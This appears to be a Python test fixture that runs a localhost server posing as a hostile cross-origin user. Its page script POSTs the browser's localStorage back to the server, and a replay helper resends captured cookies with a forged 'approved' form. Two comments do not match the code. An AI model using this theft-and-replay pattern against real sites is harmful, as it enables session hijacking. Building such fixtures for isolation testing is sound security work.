"""A program of another user that listens on a port, and keeps all that it is given."""

import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import httpx

from tests.support import PATIENCE_S, web

# It sends what the browser keeps for this origin, and loads itself again.
PAGE = """
<!doctype html><title>LoopIn</title><h1>Taken over</h1>
<script>fetch("/kept", {method: "POST", body: JSON.stringify(localStorage)});</script>
"""

Answer = Callable[[str], str]


class Stranger:
    """The requests that it got: method, path, and headers with names in lower case."""

    def __init__(self, port: int) -> None:
        self.port = port
        self.received: list[tuple[str, str, dict[str, str]]] = []
        self._more = threading.Condition()

    def note(self, method: str, path: str, headers: dict[str, str]) -> None:
        with self._more:
            self.received.append((method, path, headers))
            self._more.notify_all()

    def wait_for(self, start: str, count: int = 1) -> None:
        """Wait for this many requests whose path has this start."""

        def came() -> bool:
            return sum(path.startswith(start) for _, path, _ in self.received) >= count

        with self._more:
            assert self._more.wait_for(came, PATIENCE_S), self.received

    @property
    def paths(self) -> set[str]:
        """The first part of each path."""
        return {path.split("/")[1] for _, path, _ in self.received}

    @property
    def cookies(self) -> list[str]:
        return [headers["cookie"] for _, _, headers in self.received if "cookie" in headers]

    def replay(self, url: str, *paths: str) -> list[int]:
        """The statuses of an API for all that it was given, by every path and form."""
        places = {f"/{path.split('/')[1]}" for _, path, _ in self.received if path[1:2] == "~"}
        with httpx.Client(base_url=url, timeout=PATIENCE_S) as client:
            return [
                client.request(method, f"{place}{path}", data=form, headers=headers).status_code
                for place in ("", *sorted(places))
                for cookie in (None, *sorted(set(self.cookies)))
                for headers in [{"Cookie": cookie} if cookie else {}]
                for path in paths
                for method, form in (("GET", None), ("POST", {"decision": "approved"}))
            ]


@contextmanager
def stranger_on(port: int, page: str = PAGE, answer: Answer | None = None) -> Iterator[Stranger]:
    """Listen on a port until the block ends; `answer` makes the answers to other paths."""

    class Listener(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            headers = {name.lower(): value for name, value in self.headers.items()}
            self.rfile.read(int(headers.get("content-length", 0)))
            stranger.note(self.command, self.path, headers)
            body = (answer(self.path) if answer else page).encode()
            self.send_response(200)
            is_script = self.path.endswith(".js")
            self.send_header("Content-Type", "text/javascript" if is_script else "text/html")
            self.send_header("Content-Length", str(len(body)))
            # What it sends must not stay in use afterwards.
            self.send_header("Cache-Control", "max-age=86400")
            # The browser may have left already.
            with suppress(ConnectionError):
                self.end_headers()
                self.wfile.write(body)

        do_POST = do_GET  # noqa: N815 - named by http.server

        def log_message(self, *_: Any) -> None: ...  # noqa: ANN401 - those of http.server

    with ThreadingHTTPServer(("127.0.0.1", port), Listener) as server:
        stranger = Stranger(server.server_port)
        server.daemon_threads = True
        server.block_on_close = False
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield stranger
        server.shutdown()
        thread.join()


def relay_to(url: str) -> Answer:
    """Answers with those of an API at another port."""
    return lambda path: web.get(f"{url}{path}").text
